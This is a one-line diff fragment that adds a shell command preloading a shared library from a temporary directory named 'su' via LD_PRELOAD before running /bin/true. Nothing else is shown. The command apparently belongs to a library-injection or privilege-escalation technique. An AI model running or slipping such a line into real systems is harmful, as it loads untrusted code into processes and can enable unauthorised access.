@@ -1,0 +1,1 @@
+exec env LD_PRELOAD=/tmp/su/n.so /bin/true
